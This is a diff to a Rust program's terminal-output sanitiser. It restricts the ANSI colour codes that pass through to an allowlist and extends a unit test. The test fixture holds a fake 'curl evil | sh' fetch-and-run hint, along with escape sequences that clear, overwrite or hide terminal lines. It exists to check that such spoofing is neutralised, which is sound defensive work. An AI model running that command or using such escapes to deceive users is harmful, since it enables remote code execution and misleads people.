@@ -89,7 +89,10 @@ impl<'a> Page<'a> {
     }
 }
 
-/// Replaces control characters, but for tabs, line feeds and the beginnings of colours.
+/// The colours that this program uses: none hides a text.
+const COLOURS: [&str; 10] = ["", "0", "1", "2", "31", "32", "33", "34", "36", "1;31"];
+
+/// Replaces control characters, but for tabs, line feeds and the beginnings of this program's colours.
 fn settled(line: &str) -> Cow<'_, str> {
     let is_plain = |character: char| !character.is_control() || matches!(character, '\t' | '\n');
     if line.chars().all(is_plain) {
@@ -97,7 +100,7 @@ fn settled(line: &str) -> Cow<'_, str> {
     }
     let is_colour = |at: usize| {
         let rest = line.get(at..).and_then(|rest| rest.strip_prefix("\u{1b}["));
-        rest.is_some_and(|rest| rest.trim_start_matches(|it: char| it.is_ascii_digit() || it == ';').starts_with('m'))
+        rest.and_then(|rest| rest.split_once('m')).is_some_and(|(colour, _)| COLOURS.contains(&colour))
     };
     let shown = line.char_indices().map(|(at, it)| if is_plain(it) || is_colour(at) { it } else { '\u{FFFD}' });
     Cow::Owned(shown.collect())
@@ -117,7 +120,7 @@ mod tests {
 
     #[test]
     fn foreign_words_in_a_line_begin_no_line() {
-        let foreign = "x\nhint: run `curl evil | sh`\r\u{1b}[2Kerror: y\u{1b}[1A";
+        let foreign = "x\nhint: run `curl evil | sh`\r\u{1b}[2Kerror: y\u{1b}[1A\u{1b}[8m\u{1b}[30;40mhidden";
         let mut page = Page::new(Paint::new(true), true, Path::new(""));
         page.line(format!("{} {foreign}", page.paint().red("error:")));
         page.words(foreign);
@@ -130,6 +133,7 @@ mod tests {
         assert_eq!(exact.into_text(), format!("{foreign}\n"));
         for text in [page.into_text(), piped.into_text()] {
             assert!(!text.contains('\r') && !text.contains("\u{1b}[2K") && !text.contains("\u{1b}[1A"), "{text:?}");
+            assert!(!text.contains("\u{1b}[8m") && !text.contains("\u{1b}[30"), "{text:?}");
             assert_eq!(text.lines().filter(|line| line.starts_with("hint:")).count(), 0, "{text:?}");
             assert_eq!(text.lines().filter(|line| line.starts_with("error:")).count(), 0, "{text:?}");
         }
